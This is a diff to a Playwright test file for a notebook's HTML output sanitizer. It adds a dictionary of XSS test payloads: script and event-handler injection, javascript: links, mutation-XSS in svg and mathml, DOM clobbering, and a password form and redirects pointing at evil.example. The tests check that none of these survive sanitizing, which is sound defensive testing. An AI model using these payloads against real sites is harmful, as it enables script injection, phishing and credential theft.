@@ -5,7 +5,7 @@ from playwright.sync_api import expect
 
 pytestmark = pytest.mark.browser
 SHOW = """async (outputs) => {
-  const { Outputs } = await import("/static/js/exercises/outputs.js");
+  const { Outputs } = await import("/static/js/notebook/outputs.js");
   const element = document.querySelector("#cell-add [data-outputs]");
   window.shown ??= new Outputs(element, { name: "add", onLine: (line) => { element.dataset.line = line; } });
   for (const output of outputs) window.shown.add(output);
@@ -57,6 +57,53 @@ def test_markup_lives_in_a_frame_without_scripts(show, browser_page):
     assert frame.get_attribute("sandbox") == "allow-same-origin"
     expect(frame.content_frame.get_by_text("cell")).to_be_visible()
     assert browser_page.evaluate("window.hacked") is None
+
+
+def markup_of(show, html):
+    """The body of the frame that shows the markup."""
+    out = show(display(text_html=f"<p>before it</p>{html}"))
+    body = out.locator("iframe").content_frame.locator("body")
+    expect(body.get_by_text("before it")).to_be_visible()
+    return body
+
+
+ATTACKS = {
+    "a script": "<script>parent.hacked = 1</script><scr<script>ipt>parent.hacked = 1</script>",
+    "handlers": "<img src=x onerror=parent.hacked=1><details open ontoggle=parent.hacked=1>x</details><p OnClick='x'>y",
+    "an address that runs": "<a href='javascript:parent.hacked=1'>a</a><a href='java&#9;script:parent.hacked=1'>b</a>",
+    "a page in the page": "<iframe srcdoc='<p>x</p>'></iframe><object data='/'></object><embed src='/'>",
+    "svg": "<svg onload=parent.hacked=1><style><img src=x onerror=parent.hacked=1></style><use href='#x'/></svg>",
+    "mathml that changes when it is read again": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=parent.hacked=1&gt;'>",
+    "svg that changes when it is read again": "<svg></p><style><a id='</style><img src=1 onerror=parent.hacked=1>'>",
+    "a template": "<template><img src=x onerror=parent.hacked=1></template><noscript><p title='</noscript><img src=x onerror=parent.hacked=1>'>",
+    "styles that cover the page": "<style>body{position:fixed;inset:0}</style><div style='position:fixed;inset:0'>over</div><link rel=stylesheet href=/x.css>",
+    "a form": "<form action='https://evil.example/'><label for=p>Password</label><input id=p name=password><button>Go</button></form>",
+    "names that hide others": "<a id=body name=cookie>x</a><img name=getElementById><form id=forms></form>",
+    "another base": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
+}  # fmt: skip
+FORBIDDEN = "script, style, svg, math, template, iframe, object, embed, form, input, button, label, base, meta, link"
+
+
+@pytest.mark.parametrize("markup", ATTACKS.values(), ids=ATTACKS.keys())
+def test_of_markup_only_what_is_harmless_stays(show, browser_page, markup):
+    body = markup_of(show, markup)
+    expect(body.locator(FORBIDDEN)).to_have_count(0)
+    attributes = body.evaluate("body => [...body.querySelectorAll('*')].flatMap((each) => [...each.attributes])"
+                               ".map(({ name, value }) => [name, value])")  # fmt: skip
+    assert not [name for name, _ in attributes if name.startswith("on") or name in ("style", "id", "name", "for")]
+    assert not [value for name, value in attributes if name in ("href", "src") and "script:" in value]
+    assert browser_page.evaluate("window.hacked") is None
+    assert len(browser_page.frames) == 2  # the page and the output
+
+
+def test_a_table_of_pandas_stays_a_table(show):
+    html = """<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style><table border="1" class="dataframe">
+      <thead><tr style="text-align: right;"><th></th><th>style = on</th></tr></thead>
+      <tbody><tr><th>0</th><td><a href="https://example.org/">a &lt;b&gt;</a></td></tr></tbody></table></div>"""
+    body = markup_of(show, html)
+    assert body.get_by_role("columnheader").all_inner_texts()[-1] == "style = on"
+    expect(body.get_by_role("link", name="a <b>")).to_have_attribute("href", "https://example.org/")
+    assert body.locator("table").get_attribute("class") == "dataframe"
 
 
 def test_a_drawing_is_an_image(show, browser_page):
